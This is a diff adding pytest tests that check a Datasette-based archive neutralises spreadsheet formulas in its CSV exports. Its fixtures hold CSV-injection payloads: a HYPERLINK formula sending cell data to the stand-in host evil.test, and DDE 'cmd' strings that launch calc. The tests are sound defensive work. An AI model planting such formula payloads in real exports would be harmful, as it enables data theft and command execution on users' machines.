@@ -5,7 +5,9 @@ on a real archive file whose stored URLs and cells are hostile."""
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
+import io
 import re
 from html.parser import HTMLParser
 from pathlib import Path
@@ -13,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from archive.db import open_archive, save_articles
-from archive.safety import safe_href
+from archive.safety import neutralise_cell, neutralise_csv_record, safe_href
 from archive.serve import make_datasette
 from tests.archive_factory import make_article
 
@@ -229,3 +231,103 @@ async def test_the_policy_lets_datasettes_own_pages_work(hostile_db: Path, url: 
     assert page.handlers == []  # inline onclick= etc. would be blocked
     css = await get(hostile_db, "/-/warta.css")
     assert css.status_code == 200 and ".warta-body p" in css.text
+
+
+# -- Formula-safe CSV from Datasette ---------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"Klik")'
+FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0\n\nParagraf kedua, dengan \"kutipan\" dan koma."
+
+
+@pytest.fixture(scope="module")
+def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Forty articles; article 1 holds formula cells, article 2 a text "-5" section."""
+    path = tmp_path_factory.mktemp("formula") / "archive.db"
+    db = open_archive(path)
+    save_articles(db, [make_article(n) for n in range(40)])
+    db.conn.execute(
+        "UPDATE articles SET title = ?, body = ?, description = ?, section = ? WHERE id = 1",
+        (FORMULA_TITLE, FORMULA_BODY, "+cmd|' /C calc'!A0", "\t=1+1"),
+    )
+    db.conn.execute("UPDATE articles SET section = '-5', dateline = '-x' WHERE id = 2")
+    db.conn.commit()
+    db.close()
+    return path
+
+
+def csv_rows(text: str) -> dict[str, dict[str, str]]:
+    return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+@pytest.mark.parametrize(
+    "url", ["/archive/articles.csv", "/archive/articles.csv?_stream=on",
+            "/archive/articles_by_date.csv?_stream=on&_dl=on", "/archive/articles.csv?_sort=id&_size=max"],
+)
+async def test_datasette_csv_neutralises_formula_cells(formula_db: Path, url: str) -> None:
+    response = await get(formula_db, url)
+    assert response.status_code == 200
+    rows = csv_rows(response.text)
+    assert len(rows) == 40
+    assert rows["1"]["title"] == "'" + FORMULA_TITLE and rows["1"]["body"] == "'" + FORMULA_BODY
+    assert rows["1"]["description"] == "'+cmd|' /C calc'!A0" and rows["1"]["section"] == "'\t=1+1"
+    # A bare number is left alone (the CSV cannot tell text "-5" from an INTEGER); "-x" is not a number.
+    assert rows["2"]["section"] == "-5" and rows["2"]["dateline"] == "'-x"
+    # Every other record is byte for byte what Datasette wrote.
+    plain = make_article(5)
+    assert rows["6"]["title"] == plain["title"] and rows["6"]["body"] == "\n\n".join(plain["paragraphs"])
+
+
+async def test_csv_of_queries_is_neutralised_and_json_keeps_raw_values(formula_db: Path) -> None:
+    from urllib.parse import quote
+
+    canned = csv_rows((await get(formula_db, "/archive/latest_articles.csv")).text)
+    assert canned["1"]["title"] == "'" + FORMULA_TITLE
+    sql = "select 1 as id, '=1+2' as a, '-9' as b, -9 as c, '@x' as d, 'ok' as e"
+    text = (await get(formula_db, f"/archive.csv?sql={quote(sql)}")).text
+    assert text == "id,a,b,c,d,e\r\n1,'=1+2,-9,-9,'@x,ok\r\n"
+    data = (await get(formula_db, "/archive/articles/1.json?_shape=objects")).json()
+    assert data["rows"][0]["title"] == FORMULA_TITLE  # raw values stay available as JSON
+
+
+def test_csv_records_are_cut_the_same_at_every_chunk_boundary() -> None:
+    from archive.plugins.warta_csv import CsvRecords
+
+    out = io.StringIO(newline="")
+    writer = csv.writer(out)  # Datasette's dialect: excel, CRLF
+    writer.writerows([["id", "title", "body"], [1, FORMULA_TITLE, FORMULA_BODY], [2, "kafé \"é\"", "a\r\nb"],
+                      [3, "-5", "x"], [4, '"', "\n"]])
+    data = out.getvalue().encode("utf-8")
+    expected = b"".join(neutralise_csv_record(r) for r in CsvRecords().feed(data))
+    assert expected.count(b"'") >= 2
+    for cut in range(1, len(data)):
+        records = CsvRecords()
+        parts = records.feed(data[:cut]) + records.feed(data[cut:])
+        parts.append(records.rest())
+        assert b"".join(neutralise_csv_record(p) for p in parts if p) == expected, cut
+
+
+async def test_csv_is_rewritten_as_it_streams() -> None:
+    """The wrapper forwards each chunk's whole records at once: memory is one partial record."""
+    from archive.plugins.warta_csv import formula_safe_csv
+
+    sent: list[dict] = []
+
+    async def send(message: dict) -> None:
+        sent.append(message)
+
+    safe = formula_safe_csv(send)
+    await safe({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
+    for n in range(5000):
+        await safe({"type": "http.response.body", "body": f'{n},"=A{n}\r\n'.encode(), "more_body": True})
+        await safe({"type": "http.response.body", "body": b'x"\r\n', "more_body": True})
+        # After the second half, the record is complete and already on its way.
+        assert sent[-1]["body"] == f"{n},\"'=A{n}\r\nx\"\r\n".encode()
+    await safe({"type": "http.response.body", "body": b"", "more_body": False})
+    assert sent[-1] == {"type": "http.response.body", "body": b"", "more_body": False}
+
+
+def test_neutralise_cell_follows_owasp() -> None:
+    for cell in ["=1", "+1", "-1", "@a", "\tx", "\rx"]:
+        assert neutralise_cell(cell) == "'" + cell
+    for cell in ["a=1", " =1", "", "'=1", 5, -5, None, 1.5]:
+        assert neutralise_cell(cell) == cell
